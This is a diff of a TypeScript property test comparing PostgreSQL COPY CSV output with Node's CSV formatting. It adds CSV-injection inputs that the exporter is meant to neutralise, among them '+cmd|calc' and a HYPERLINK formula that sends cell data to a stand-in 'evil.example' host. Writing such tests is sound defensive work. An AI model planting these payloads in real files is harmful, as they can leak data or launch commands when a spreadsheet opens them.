@@ -1,15 +1,15 @@
 import fc from 'fast-check';
 import type { PoolClient } from 'pg';
+import { csvLine } from '@platform/core';
 import type { FieldType } from '@platform/query';
 import { createTempDatabase, type TempDatabase } from '@platform/testing';
 import { bindForCopy, copyCsvLines, replacePlaceholders } from './copy-out';
-import { csvLine } from './csv';
 import { HARD, JS_WHITESPACE, csvCopySelect, rawSelect, type ExportCell } from './csv-sql';
-import { cellText, type CellOptions } from './format';
+import { csvCell, type CellOptions } from './format';
 
 /**
  * The CSV PostgreSQL writes (COPY of csvCopySelect) against what Node writes from the raw values of the
- * same rows (rawSelect, cellText, csvLine: the export's formatting before it moved to SQL), byte for byte.
+ * same rows (rawSelect, csvCell, csvLine: the export's formatting before it moved to SQL), byte for byte.
  */
 
 let db: TempDatabase;
@@ -73,7 +73,7 @@ async function bothOf(cells: ExportCell[], timezone: string) {
     const rv: unknown[] = [];
     const rawSql = rawSelect(rows, cells, [], (v, cast) => (rv.push(v), `$${rv.length}::${cast}`));
     const raw = (await client.query({ text: rawSql, values: rv, rowMode: 'array' })).rows as unknown[][];
-    const want = raw.map((r) => csvLine(cells.map((c, k) => cellText(r[k], c.opts)))).join('');
+    const want = raw.map((r) => csvLine(cells.map((c, k) => csvCell(r[k], c.opts)))).join('');
 
     const values: unknown[] = [];
     const sql = await bindForCopy(client, csvCopySelect(rows, cells, (v, cast) => (values.push(v), `$${values.length}::${cast}`)), values);
@@ -81,7 +81,7 @@ async function bothOf(cells: ExportCell[], timezone: string) {
     let toNode = 0;
     await copyCsvLines(client, sql, async (b) => void chunks.push(Buffer.from(b)), (r) => {
       toNode += 1;
-      return csvLine(cells.map((c, k) => cellText(r[k], c.opts)));
+      return csvLine(cells.map((c, k) => csvCell(r[k], c.opts)));
     });
     return { got: Buffer.concat(chunks).toString('utf8'), want, toNode, lines: raw.length };
   });
@@ -103,6 +103,8 @@ async function both(opts: CellOptions, timezone = 'UTC') {
 const TRICKY_STRINGS = [
   '', ' ', '  ', '\t', '\u00a0', '\u3000', '\ufeff', ' x', 'x ', 'plain', 'a,b', 'say "hi"', '"', '""', 'line1\nline2', 'cr\rlf', 'crlf\r\n',
   '한글', 'emoji 😀', 'a\u2028b', '\\.', '\\', "it's", 'x\u0001y', '\u0001', '-12', '12', '1.50', '[x', '{}', '{"a":1}', 'true', 'null', '\u0085',
+  // formula starts (CSV injection): each gets a leading quote
+  '=1+2', '=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '-', "'=already",
 ];
 const TRICKY_FLOATS = [
   0, -0, 1, -1, 1.5, 0.1 + 0.2, 1e-4, 9.99e-5, 1e-6, 1e-7, 123456789.123, 1e15, 999999999999999.9, 1e16, 1e21, 1.7976931348623157e308, 5e-324,
@@ -112,11 +114,12 @@ const TRICKY_JSON: unknown[] = [
   'str', ' ', '', '\u00a0x', 'x,"y"', 'multi\nline', '😀', '123', '-dash', '[not array', '{not object', 0, -0, 1, 1.5, 100, 1e21, 1e-7, 0.000001,
   12345678901234567890, 1.7976931348623157e308, true, false, null, {}, { a: 1 }, { b: [1, { c: 'x' }] }, [], [1, 'a', null, ' ', true, 2.5],
   ['x', ''], [''], [null], [[1]], [{ a: 1 }], [1e21], ['a,b', 'c"d'], { '10': 1, b: 2, '2': 3 },
+  '=1+2', '+cmd|calc', '@x', '\tx', '\rx', -5, -0.5, -1e-7, [-5, 'a'], ['=x'], '-5',
 ];
 
 function trickyRows(): Row[] {
   const n = Math.max(TRICKY_STRINGS.length, TRICKY_FLOATS.length, TRICKY_JSON.length);
-  const arrays: (string | null)[][] = [[], [''], [' '], [null], ['a', null, 'b'], ['x,y', 'q"'], ['한', 'b'], ['a\nb'], [' a', 'b'], ['a', ''], ['\u00a0'], ['1', '2', '3']];
+  const arrays: (string | null)[][] = [[], [''], [' '], [null], ['a', null, 'b'], ['x,y', 'q"'], ['한', 'b'], ['a\nb'], [' a', 'b'], ['a', ''], ['\u00a0'], ['1', '2', '3'], ['=x', 'b'], ['-1', '2'], ['a', '@b']];
   return Array.from({ length: n + 2 }, (_, i) => ({
     s: i === n ? null : TRICKY_STRINGS[i % TRICKY_STRINGS.length],
     f: i === n ? null : TRICKY_FLOATS[i % TRICKY_FLOATS.length],
@@ -181,7 +184,7 @@ describe('CSV written by PostgreSQL equals the CSV Node writes', () => {
   });
 
   test('random values', async () => {
-    const text = fc.string({ unit: fc.constantFrom(...'ab ,"\n\r\t\\-1[{'.split(''), '\u00a0', '😀', '한', '\u3000', '\u0001'), maxLength: 6 });
+    const text = fc.string({ unit: fc.constantFrom(...'ab ,"\n\r\t\\-1[{=+@'.split(''), '\u00a0', '😀', '한', '\u3000', '\u0001'), maxLength: 6 });
     const json = fc.letrec((tie) => ({
       value: fc.oneof({ depthSize: 'small' }, text, fc.double(), fc.integer(), fc.boolean(), fc.constant(null), fc.array(tie('value'), { maxLength: 3 }), fc.dictionary(text, tie('value'), { maxKeys: 2 })),
     })).value;
